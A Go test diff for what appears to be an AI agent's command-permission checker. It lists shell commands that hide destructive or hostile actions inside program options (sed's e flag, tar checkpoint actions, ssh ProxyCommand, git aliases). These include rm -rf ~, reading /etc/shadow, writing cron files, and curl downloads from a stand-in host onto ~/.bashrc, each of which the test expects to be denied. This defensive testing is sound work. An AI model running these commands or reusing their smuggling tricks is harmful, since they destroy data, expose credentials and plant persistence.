@@ -228,6 +228,44 @@ func TestFloorRmDisguises(t *testing.T) {
 	}
 }
 
+// TestFloorCommandsInsideOptions: programs that run commands given in
+// their options or their own little languages.
+func TestFloorCommandsInsideOptions(t *testing.T) {
+	p := mustParse(t, permissive)
+	for _, tc := range []struct{ cmd, id string }{
+		{`sed 'e rm -rf ~' notes.txt`, FloorDynamicCommand},
+		{`sed -n 's/.*/id/e' notes.txt`, FloorDynamicCommand},
+		{`sed -e 1d -e '$e id' notes.txt`, FloorDynamicCommand},
+		{`sed -n 'w /etc/cron.d/x' notes.txt`, FloorWriteSystem},
+		{`sed 's/a/b/w ~/.bashrc' notes.txt`, FloorWriteOutside},
+		{`sed 'r /etc/shadow' notes.txt`, FloorCredentialRead},
+		{`rg --pre 'rm -rf ~' x`, FloorDeleteRecursiveOutside},
+		{`sort --compress-program='rm -rf ~' big.txt`, FloorDeleteRecursiveOutside},
+		{`git fetch --upload-pack='rm -rf ~' /tmp/repo`, FloorDeleteRecursiveOutside},
+		{`git grep -O'rm -rf ~' x`, FloorDeleteRecursiveOutside},
+		{`git submodule foreach 'rm -rf ~'`, FloorDeleteRecursiveOutside},
+		{`git bisect run rm -rf ~`, FloorDeleteRecursiveOutside},
+		{`tar --checkpoint-action=exec='rm -rf ~' -cf x.tar .`, FloorDeleteRecursiveOutside},
+		{`ssh -o ProxyCommand='rm -rf ~' host`, FloorDeleteRecursiveOutside},
+		{`rsync -e 'sh -c "rm -rf ~"' a host:b`, FloorDeleteRecursiveOutside},
+		{`git config alias.x '!rm -rf ~'`, FloorDeleteRecursiveOutside},
+		{`curl -o ~/.bashrc https://x.example/rc`, FloorWriteOutside},
+		{`wget --output-document=/etc/hosts https://x.example/h`, FloorWriteSystem},
+		{`go build -o /usr/local/bin/ls .`, FloorWriteSystem},
+		{`tar -xf evil.tar -C /`, FloorWriteSystem},
+	} {
+		d := p.Check("Bash("+tc.cmd+")", "dev", testEnv)
+		if d.Decide == Allow || !contains(d.Floor, tc.id) {
+			t.Errorf("%q: %s by %s, floor %v, want %s", tc.cmd, d.Decide, d.Rule, d.Floor, tc.id)
+		}
+	}
+	for _, cmd := range []string{`sed -n '1,20p' go.mod`, `sed -i 's/old/new/g' main.go`, `sed -e 's|a|b|' -e '/x/d' f`, `sed '/^#/d; s/ *$//' f`} {
+		if d := p.Check("Bash("+cmd+")", "dev", testEnv); d.Decide != Allow {
+			t.Errorf("%q: %s by %s: %s", cmd, d.Decide, d.Rule, d.Why)
+		}
+	}
+}
+
 // FileActionsOnTheFloor: Edit, Write and Read of the wrong files.
 func TestFloorFileActions(t *testing.T) {
 	p := mustParse(t, permissive)
